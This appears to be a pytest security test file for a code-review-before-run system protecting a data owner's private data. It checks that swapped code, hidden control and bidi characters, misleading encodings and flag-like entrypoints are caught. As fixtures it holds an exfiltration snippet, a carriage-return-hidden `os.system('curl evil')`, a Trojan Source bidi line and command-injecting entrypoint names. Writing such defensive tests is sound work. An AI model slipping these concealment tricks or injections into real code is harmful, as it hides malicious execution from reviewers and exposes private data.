"""Review = run: what the data owner reviews is its own copy of the code, taken at intake, shown
with nothing hidden, and exactly what approval pins and every run executes."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from syft_flwr.rds import JobRefusedError
from tests.rds.rds_helpers import COUNT_ROWS, DATASET, approved, submit, write_code
from tests.security.forge import CODE, forge_submission

EVIL = "import os\nprint('exfiltrated', os.environ['DATA_DIR'])\n"


def test_code_swapped_in_the_inbox_after_intake_is_never_reviewed_nor_run(
    net, tmp_path: Path
) -> None:
    job = submit(net, tmp_path)
    owner_view = net.admin.job.get(uid=job.uid)  # intake: the owner's copy is taken now
    assert owner_view.code_path.is_relative_to(net.do.network.private_dir(net.do.client.email))
    (job.code_path / "main.py").write_text(EVIL)  # the shared inbox copy is swapped
    review = owner_view.show_user_code()
    assert COUNT_ROWS.rstrip() in review and "exfiltrated" not in review
    net.admin.job.approve(job)
    (job.code_path / "main.py").write_text(EVIL + "# again\n")  # and again after approval
    handle = net.admin.run_private(job)
    assert handle.returncode == 0
    assert handle.stdout_path.read_text() == "counted 4 rows\n"  # the reviewed code, exactly
    assert (handle.output_dir / "count.txt").read_text() == "4"
    run_code = net.admin.store.run_dir(job.uid, 1) / "code" / "main.py"
    assert run_code.read_text() == COUNT_ROWS
    record = net.admin.store.load(job.uid)
    assert record.runs[0].code_sha256 == record.pinned_sha256 == record.seen_sha256


def test_code_swapped_between_the_intake_check_and_the_copy_is_refused(net, tmp_path: Path) -> None:
    """The copy is hashed as it is taken: it must be the signed code, whatever the inbox holds
    by then (here the copy is made to fail the way a swap would: its hash differs)."""
    job = submit(net, tmp_path)
    intake = net.admin.job._intake
    with pytest.raises(ValueError, match="changed while it was taken in"):
        intake.keep_copy(job.uid, "0" * 64)
    assert not intake.code_dir(job.uid).exists()
    assert net.admin.job.get(uid=job.uid).status == "pending_code_review"  # then intake works


HIDDEN = (
    "print('shown')\rimport os; os.system('curl evil')\n"  # a lone CR hides the statement
    "x = 1  # \x1b[2K\x1b[1Ahidden by an escape sequence\n"
    "access = 'user' # \u202e } \u2066if admin:\u2069 \u2066 # bidi reordering\n"
    "zero = 'a\u200bb'\n"
)


def test_review_shows_control_bidi_and_carriage_returns_escaped(net, tmp_path: Path) -> None:
    job = submit(net, tmp_path, main=COUNT_ROWS + HIDDEN)
    review = net.admin.job.get(uid=job.uid).show_user_code()
    for raw in ("\r", "\x1b", "\u202e", "\u2066", "\u2069", "\u200b"):
        assert raw not in review
    for shown in ("\\r", "\\x1b[2K", "\\u202e", "\\u2066", "\\u2069", "\\u200b"):
        assert shown in review
    assert "import os; os.system('curl evil')" in review  # on a line of its own, visible
    assert "!! WARNING: 8 hidden character(s)" in review
    # a plain file is shown exactly, with no warning
    plain = submit(net, tmp_path, name="plain")
    text = net.admin.job.get(uid=plain.uid).show_user_code()
    assert COUNT_ROWS.rstrip() in text and "WARNING" not in text


@pytest.mark.parametrize(
    ("source", "why"),
    [
        (b"# -*- coding: utf-7 -*-\n+AAo-import os\n" + COUNT_ROWS.encode(), "utf-7"),
        (b"# vim: set fileencoding=latin-1 :\nname = '\xe9'\n" + COUNT_ROWS.encode(), "latin-1"),
        (COUNT_ROWS.encode() + b"name = '\xff\xfe'\n", "not valid UTF-8"),
    ],
    ids=["utf-7", "latin-1", "not-utf-8"],
)
def test_a_file_python_would_decode_differently_is_flagged_and_never_approved(
    net, tmp_path: Path, source: bytes, why: str
) -> None:
    code = write_code(tmp_path / "code")
    (code / "main.py").write_bytes(source)
    job = net.guest.job.submit(name="j", user_code_path=code, dataset_name=DATASET)
    review = net.admin.job.get(uid=job.uid).show_user_code()
    assert "!! WARNING: main.py" in review and why in review
    with pytest.raises(PermissionError, match=f"refusing to approve.*{why}"):
        net.admin.job.approve(job)
    assert net.admin.job.get(uid=job.uid).status == "pending_code_review"
    assert net.admin.audit_log()[-1]["event"] == "refusal"


FLAG_ENTRYPOINTS = ["-cimport os;print(os.getcwd())#.py", "-m.py", "--help.py", "main", "a/../b.py"]


@pytest.mark.parametrize("entrypoint", FLAG_ENTRYPOINTS)
def test_an_entrypoint_python_would_read_as_a_flag_is_refused_at_submit(
    net, tmp_path: Path, entrypoint: str
) -> None:
    code = write_code(tmp_path / "code")
    if "/" not in entrypoint:
        (code / entrypoint).write_text("print('ran')\n")
    with pytest.raises(ValueError, match=r"starts with '-'|not a \.py file|leaves the code"):
        net.guest.job.submit(
            name="j", user_code_path=code, dataset_name=DATASET, entrypoint=entrypoint
        )
    assert os.listdir(net.admin.job.inbox) == []


def test_an_entrypoint_python_would_read_as_a_flag_is_refused_at_intake(
    net, tmp_path: Path
) -> None:
    """A submission signed by the real submitter, written by hand: intake checks it again."""
    flag = "-cimport os;print(os.getcwd())#.py"
    job_dir = forge_submission(
        net.admin.job.inbox,
        net.ds.client.identity,
        code={**CODE, flag: "print('ran')\n"},
        entrypoint=flag,
    )
    assert [j.uid for j in net.admin.job.get_all()] == []
    with pytest.raises(JobRefusedError, match="malformed.*starts with '-'"):
        net.admin.job.get(uid=job_dir.name)
    # the legitimate job next to it is accepted and runs exactly
    job = approved(net, tmp_path)
    assert net.admin.run_private(job).stdout_path.read_text() == "counted 4 rows\n"
